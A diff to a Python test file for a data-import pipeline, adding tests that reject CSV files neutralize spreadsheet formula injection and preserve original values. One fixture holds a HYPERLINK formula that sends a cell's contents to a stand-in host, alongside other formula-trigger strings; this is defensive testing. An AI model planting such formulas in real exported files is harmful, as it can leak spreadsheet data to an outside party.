@@ -1,16 +1,20 @@
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from pipelines.imports.open import REJECT_COLUMNS, count_reject_columns
+from pipelines.imports import ReadyInput, open_inputs
+from pipelines.imports.open import REJECT_COLUMNS, count_reject_columns, open_input_table
 from pipelines.mapping.model import MappedColumn, Mapping
 from pipelines.plan.model import REJECTS_FILE
 from pipelines.plan.rejects import REFILL_NOTE, RejectsWriter
 from sources.files import ReadOptions, RejectedRow, Row, open_table
+from sources.files.formulas import neutralize
 
 WHY = ("price", "not_a_number", "no number, in that sense")
 
@@ -147,6 +151,43 @@ def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_pat
     assert [row.cells for row in again.rows()] == [("A", "1", "2", "3", "4", "2", *WHY)]
 
 
+FORMULA = '=HYPERLINK("http://x.test/?"&A1)'
+
+
+@pytest.mark.parametrize("kind", ["header", "no header"])
+def test_no_cell_of_a_reject_file_runs_in_a_spreadsheet_and_it_is_read_as_it_was(tmp_path: Path, kind: str) -> None:
+    """Issue 12, item 3."""
+    cells = (FORMULA, "-5", "'=1", "@x", "\t+1", "+34 600 112 233", "-1+2")
+    options = ReadOptions(delimiter=";", quote='"', header_row=1 if kind == "header" else 0)
+    source = io.StringIO()
+    csv.writer(source, delimiter=";").writerows([("=a", "b", "c", "d", "e", "f", "g"), cells][kind != "header" :])
+    line = 2 if kind == "header" else 1
+    written = rejected(tmp_path, source.getvalue().encode(), [line], options).decode()
+    rows = list(csv.reader(io.StringIO(written), delimiter=";"))
+    runs = [cell for row in rows for cell in row if neutralize(cell) != cell]
+    assert runs == []
+    assert "-5" in rows[-1]
+    assert "+34 600 112 233" in rows[-1]
+    again = open_input_table(tmp_path / REJECTS_FILE, options, None)
+    (row,) = again.rows()
+    assert isinstance(row, Row)
+    if kind == "header":
+        assert again.columns[0] == "=a"
+        assert row.cells[:7] == cells
+        (table,) = again.batches()
+        assert [table[name][0].as_py() for name in again.columns[:7]] == list(cells)
+    else:
+        assert tuple(cell.strip(" ") for cell in row.cells) == cells
+
+
+def test_a_corrected_reject_file_with_a_formula_sends_what_the_cell_says(tmp_path: Path) -> None:
+    made = rejected(tmp_path, f'sku;productId;variantId\n"{FORMULA.replace(chr(34), chr(34) * 2)}";x;1\n'.encode(), [2])
+    (tmp_path / "fixed.csv").write_bytes(made.replace(b";x;", b";7;"))
+    (item,) = open_inputs("variants", tmp_path / "fixed.csv")
+    assert isinstance(item, ReadyInput)
+    assert item.body == {"sku": FORMULA}
+
+
 @settings(max_examples=60, deadline=None)
 @given(
     cells=st.lists(
@@ -164,9 +205,6 @@ def test_columns_of_these_names_that_the_mapping_names_are_the_files_own(tmp_pat
 def test_any_cell_survives(
     tmp_path_factory: pytest.TempPathFactory, cells: list[list[str]], encoding: str, delimiter: str
 ) -> None:
-    import csv
-    import io
-
     folder = tmp_path_factory.mktemp("rejects")
     out = io.StringIO()
     csv.writer(out, delimiter=delimiter).writerows([["first", "second", "third"], *cells])
